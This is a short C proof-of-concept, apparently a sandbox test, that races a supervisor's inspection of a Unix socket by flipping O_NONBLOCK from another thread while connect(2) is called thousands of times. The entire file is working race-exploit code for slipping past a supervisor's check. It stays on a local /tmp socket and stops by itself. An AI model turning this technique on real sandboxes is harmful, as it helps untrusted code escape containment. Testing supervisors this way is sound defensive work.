/* attack_connect: clears O_NONBLOCK between the supervisor's look at a socket and its connect(2). Ends by itself. */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <errno.h>
#include <signal.h>
#include <pthread.h>
#include <time.h>
#include <sys/time.h>
#include <sys/stat.h>
#include <sys/socket.h>
#include <sys/un.h>
static volatile int fd=-1;
static void h(int s){}
static void*flip(void*x){sigset_t s;sigfillset(&s);pthread_sigmask(SIG_BLOCK,&s,0);for(;;){int f=fd;if(f<0)continue;fcntl(f,F_SETFL,O_NONBLOCK);for(volatile int i=0;i<rand()%800;i++);fcntl(f,F_SETFL,0);for(volatile int i=0;i<rand()%100;i++);}}
int main(int c,char**v){setvbuf(stdout,0,_IONBF,0);struct sockaddr_un a={AF_UNIX};strcpy(a.sun_path,"/tmp/full");int l=socket(AF_UNIX,SOCK_STREAM,0);bind(l,(void*)&a,sizeof a);listen(l,0);
 for(int i=0;i<3;i++){int s=socket(AF_UNIX,SOCK_STREAM|SOCK_NONBLOCK,0);connect(s,(void*)&a,sizeof a);}
 if(!fork()){for(;;){write(1,".",1);struct stat st;stat("/tmp",&st);usleep(500000);}}
 struct sigaction sa={.sa_handler=h};sigaction(SIGALRM,&sa,0);struct itimerval it={{0,20000},{0,20000}};setitimer(ITIMER_REAL,&it,0);
 pthread_t t;pthread_create(&t,0,flip,0);
 for(int i=0;i<3000;i++){int s=socket(AF_UNIX,SOCK_STREAM|SOCK_NONBLOCK,0);fd=s;int r=connect(s,(void*)&a,sizeof a);if(i%100==0)printf("[%d]",i);fd=-1;close(s);}
 puts("end");return 0;}
